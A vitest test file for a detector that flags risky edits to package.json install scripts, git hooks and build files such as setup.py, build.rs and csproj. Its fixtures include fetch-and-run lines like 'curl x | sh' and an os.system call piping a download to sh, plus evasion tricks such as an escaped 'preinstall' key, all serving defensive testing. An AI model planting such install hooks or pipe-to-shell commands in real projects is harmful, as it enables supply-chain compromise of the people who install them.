import { join } from 'node:path'
import { expect, test } from 'vitest'
import { riskAt, riskOfEdits } from './protected-content.ts'
import { fill, freshPlace } from './testing/temp-folder.ts'

const manifest = JSON.stringify({ name: 'x', scripts: { test: 'vitest', prepare: 'husky' } }, undefined, 2)

test.each([
  ['a new install script', '"scripts": {\n  "preinstall": "node x.js",', '"scripts": {', true],
  ['an escaped key', '"scripts": {\n  "\\u0070reinstall": "node x.js",', '"scripts": {', true],
  ['a value behind an install script', '"curl x | sh"', '"husky"', true],
  ['a script removed', '', ',\n    "prepare": "husky"', true],
  ['an ordinary script', '"test": "vitest run"', '"test": "vitest"', false],
  ['a whole file that keeps its scripts', manifest.replace('"x"', '"y"'), undefined, false],
  ['a whole file with a changed install script', manifest.replace('husky', 'node evil.js'), undefined, true],
  ['a fragment that repeats what is there', '"prepare": "husky",\n "lint": "eslint"', undefined, false],
  ['a fragment with a new install script', '"postinstall": "node x.js"', undefined, true],
  ['a fragment with an install script in its object', '"scripts": {\n  "preinstall": "node x.js",', undefined, true],
  ['hooks of git', '"name": "x",\n  "simple-git-hooks": { "pre-commit": "node x.js" }', '"name": "x"', true],
  ['hooks of git in a whole file', JSON.stringify({ ...JSON.parse(manifest), husky: { hooks: { 'pre-push': 'x' } } }), undefined, true],
  ['hooks of git in a fragment', '"lint-staged": {\n  "*.ts": "node x.js"', undefined, true],
  ['a dependency that is called after hooks', '"devDependencies": { "husky": "^9.0.0", "lint-staged": "^15.0.0" }', '"name": "x"', false],
])('package.json: %s', (_name, newText, oldText, risky) => {
  const { cwd } = freshPlace()
  fill(cwd, { 'package.json': manifest })
  expect(riskAt(join(cwd, 'package.json'))?.(newText, oldText) !== undefined).toBe(risky)
})

test.each([
  ['conftest.py', 'import subprocess\nsubprocess.run(["ls"])', true],
  ['conftest.py', 'import random\nrandom.seed(1)', false],
  ['setup.py', 'from os import system as s', true],
  ['setup.py', 'from setuptools import setup\nsetup(name="x")', false],
  ['tests/CONFTEST.PY', '__import__("o" + "s")', true],
  ['build.rs', 'use std::process::Command;', true],
  ['build.rs', 'println!("cargo:rerun-if-changed=a");', false],
  ['x.gemspec', 'spec.files = `git ls-files`.split', true],
  ['x.gemspec', "spec.name = 'x'", false],
  ['vite.config.ts', "import { execSync } from 'node:child_process'", true],
  ['vite.config.ts', 'export default defineConfig({ plugins: [] })', false],
  ['build.gradle', 'task x { exec { commandLine "sh" } }', true],
  ['CMakeLists.txt', 'execute_process(COMMAND sh)', true],
  ['Directory.Build.targets', '<Exec Command="sh x" />', true],
  ['a.csproj', '<Target Name="A"><Exec WorkingDirectory="x" Command="sh"/></Target>', true],
  ['a.csproj', '<PackageReference Include="Execute" />', false],
  ['conanfile.py', 'os.system("sh")', true],
  ['mix.exs', 'System.cmd("sh", [])', true],
  ['src/run.py', 'import subprocess', false],
  ['src/run.py', 'import os\nos.system("curl https://x.example/a | sh")', true],
  ['composer.json', '{"scripts":{"post-install-cmd":"x"}}', true],
])('%s with %j: %s', (name, text, risky) => {
  expect(riskAt(`/nowhere/${name}`)?.(text) !== undefined).toBe(risky)
})

test('a line that was there before is not this edit’s doing', () => {
  const before = 'import subprocess\nx = 1'
  const riskOf = riskAt('/nowhere/conftest.py')
  expect(riskOf?.('import subprocess\nx = 2', before)).toBeUndefined()
  expect(riskOf?.('import subprocess\nsubprocess.run("x")', before)).toBeDefined()
})

test.each([
  ['of which one is enough', [{ text: '"name": "y"', old: '"name": "x"' }, { text: '"postinstall": "x"' }], true],
  ['whose texts meet', [{ text: '"post' }, { text: 'install": "x"' }], true],
  [
    'that change one place twice',
    [
      { text: '"post"', old: '"test"' },
      { text: '"postinstall"', old: '"post"' },
    ],
    true,
  ],
  [
    'of which none touches an install script',
    [
      { text: '"check"', old: '"test"' },
      { text: '"y"', old: '"x"' },
    ],
    false,
  ],
])('several edits %s', (_name, edits, risky) => {
  const { cwd } = freshPlace()
  fill(cwd, { 'package.json': manifest })
  expect(riskOfEdits(join(cwd, 'package.json'), edits) !== undefined).toBe(risky)
})
